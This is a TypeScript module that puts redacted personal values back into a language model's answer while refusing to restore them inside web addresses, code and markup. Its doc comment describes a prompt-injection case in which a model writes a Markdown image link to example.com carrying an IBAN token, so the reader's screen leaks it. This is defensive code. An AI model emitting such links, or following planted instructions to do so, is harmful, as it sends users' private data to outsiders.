import { codeRegions } from "./code-region.ts";
import type { Mapping } from "./mapping.ts";
import { markupRegions } from "./markup-region.ts";
import { merged, type Region, touching } from "./region.ts";
import { findTokens, type TokenMatch } from "./token.ts";
import { urlRegions } from "./url-region.ts";

/** A place where a restored value could leave the reader's screen, or run. */
export type GuardedPlace = "url" | "code" | "attribute";

/** How a text is restored. */
export interface RestoreOptions {
  /** Guarded places in which tokens are restored all the same. Default: none. */
  readonly inside?: readonly GuardedPlace[];
}

/** A token that stays a token. */
export interface RefusedToken {
  /** The span in the text that comes back. */
  readonly start: number;
  readonly end: number;
  /** The place it stands in; `"foreign"` if this mapping has never issued it. */
  readonly because: GuardedPlace | "foreign";
}

/** A text with its values back, and what was not put back. */
export interface Restoration {
  readonly text: string;
  /** How many tokens were replaced. */
  readonly restored: number;
  readonly refused: readonly RefusedToken[];
}

/**
 * Puts the values of a mapping back into a text, such as the answer of a language model to a redacted prompt.
 *
 * Tokens are found also in other case, with spaces or Markdown escapes, and with an ending: `[PERSON_1_K3F9]s`. They
 * are left alone in web addresses, code and markup tags unless `inside` names the place: a model that follows a
 * planted instruction could write `![](https://example.com/?q=[IBAN_1_K3F9])`, and the reader's screen would send the
 * value away. What could be such a place counts as one. Restored values are not read again.
 *
 * With every place in `inside`, restoring undoes `redact` exactly. Without, it does unless `refused` names a place.
 *
 * @example
 * ```ts
 * const mapping = { schema: "kiregel.mapping/1", tag: "K3F9", entries: [
 *   { token: "[PERSON_1_K3F9]", kind: "person", value: "Erika Muster" },
 * ] } as const;
 * restore("Guten Tag [person_1_k3f9]!", mapping).text; // => "Guten Tag Erika Muster!"
 * ```
 */
export function restore(text: string, mapping: Mapping, options: RestoreOptions = {}): Restoration {
  const values = new Map(mapping.entries.map((entry) => [entry.token, entry.value]));
  const tokens = findTokens(text);
  const issued = tokens.filter(({ token, tag }) => tag === mapping.tag && values.has(token));
  const placeOf = guard(text, issued, options.inside ?? []);
  const refused: RefusedToken[] = [];
  let restored = 0;
  let out = "";
  let at = 0;
  for (const match of tokens) {
    const value = match.tag === mapping.tag ? values.get(match.token) : undefined;
    const place = placeOf(match);
    const because = value === undefined ? "foreign" : isTokenLike(value) ? undefined : place;
    out += text.slice(at, match.start);
    const written = because === undefined && value !== undefined ? value : text.slice(match.start, match.end);
    if (because === undefined) restored++;
    else refused.push({ start: out.length, end: out.length + written.length, because });
    out += written;
    at = match.end;
  }
  return { text: out + text.slice(at), restored, refused };
}

// The first guarded place that a token touches. Asked in the order of the text.
function guard(
  text: string,
  issued: readonly TokenMatch[],
  inside: readonly GuardedPlace[],
): (span: Region) => GuardedPlace | undefined {
  const ends = new Set(issued.map((token) => token.end));
  const { tags, code } = markupRegions(text);
  const places = [
    { place: "url", touches: touching(merged(urlRegions(text, ends))) },
    { place: "attribute", touches: touching(merged(tags)) },
    { place: "code", touches: touching(merged([...codeRegions(text), ...code])) },
  ] as const;
  const guarded = places.filter(({ place }) => !inside.includes(place));
  return (span) => guarded.find(({ touches }) => touches(span))?.place;
}

// A value that is itself written like a token stood so in the input; it tells nothing and comes back everywhere.
function isTokenLike(value: string): boolean {
  const [match] = findTokens(value);
  return match !== undefined && match.start === 0 && match.end === value.length;
}
